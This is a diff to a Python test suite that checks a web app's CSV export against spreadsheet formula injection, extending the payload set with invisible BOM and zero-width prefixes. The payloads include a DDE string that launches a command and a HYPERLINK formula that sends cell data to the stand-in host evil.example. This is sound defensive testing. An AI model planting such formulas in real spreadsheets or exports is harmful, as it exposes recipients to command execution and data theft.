@@ -189,14 +189,15 @@ def test_a_sheet_is_saved_under_a_name_and_ends_lines_as_the_standard_says(
 
 
 STARTS = (*"=+-@＝＋－＠|'%", "\t=", " =", "\n@", ",=", ";=", '="', "==", "@-", '"=')
+UNSEEN = ("\ufeff=", "\u200b＝", "\u200b\ufeff-")
 ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1)', "SUM(1,2)\r\n=2", "🙂")
-PAYLOADS = [start + end for start in STARTS for end in ENDS]
+PAYLOADS = [start + end for start in (*STARTS, *UNSEEN) for end in ENDS]
 TRIGGERS = tuple("=+-@\t\r\n\0＝＋－＠")
 
 
 def test_no_cell_starts_a_formula_and_every_text_comes_back(world: World, made: dict[str, Any]) -> None:
     """G29: 100 payloads: 0 cells beginning with a trigger; strict RFC 4180 round trip."""
-    assert len(PAYLOADS) == 100
+    assert len(PAYLOADS) == 115
     invited(world, made["uuid"], "=cmd@example.com", "Zz3dE5fG7hJ9")
     hand = Hand(world, "Zz3dE5fG7hJ9")
     for payload in PAYLOADS:
@@ -211,7 +212,7 @@ def test_no_cell_starts_a_formula_and_every_text_comes_back(world: World, made: 
     marks = sheet(ask(world.pia, made, "page-marks", "?format=csv"))
     assert marks[1][2] == "'=cmd@example.com"
     cells = [cell for row in (*rows, *marks) for cell in row]
-    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
+    assert not [cell for cell in cells if cell.lstrip("\ufeff\u200b ").startswith(TRIGGERS)]
     told = ask(world.pia, made, "annotations").get_json()["pages"][0]["annotations"]
     assert [row["note"] for row in told] == stored
 
